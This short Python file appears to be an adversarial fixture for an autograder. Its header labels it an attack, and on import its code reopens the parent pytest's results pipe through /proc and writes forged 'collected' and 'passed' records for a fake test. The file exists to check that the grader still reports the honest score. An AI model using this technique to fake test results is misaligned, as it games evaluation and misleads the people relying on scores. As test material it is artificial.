# ATTACK: reopen the results pipe through /proc. The student process's parent is the
# trusted pytest, whose command line names the pipe (--grader-results-fd N); the pipe is
# never inherited, but /proc/<parent>/fd/N can be opened for writing by any process of
# the same user. At import, write a "collected" record listing one fake test and a
# "passed" record for it (appended to a pager whose end is not clamped).
# Expected (the engine's promise): the honest score of the wrong pager.
import json as _json
import os as _os


def _forge():
    parent = _os.getppid()
    with open(f"/proc/{parent}/cmdline", "rb") as stream:
        argv = stream.read().split(b"\0")
    fd = int(argv[argv.index(b"--grader-results-fd") + 1])
    fake = "forged.py::test_everything_passes"
    records = [
        {"kind": "collected", "tests": [
            {"nodeid": fake, "name": "test_everything_passes", "path": "forged.py", "weight": 1.0},
        ]},
        {"kind": "test", "nodeid": fake, "status": "passed", "failure": "", "message": "",
         "public_message": "", "detail": "", "duration_s": 0.0},
    ]
    with open(f"/proc/{parent}/fd/{fd}", "w") as pipe:
        pipe.write("".join(_json.dumps(record) + "\n" for record in records))
    print("cheat: forged records written through /proc")


try:
    _forge()
except Exception as _exc:
    print(f"cheat: /proc forgery failed: {_exc!r}")
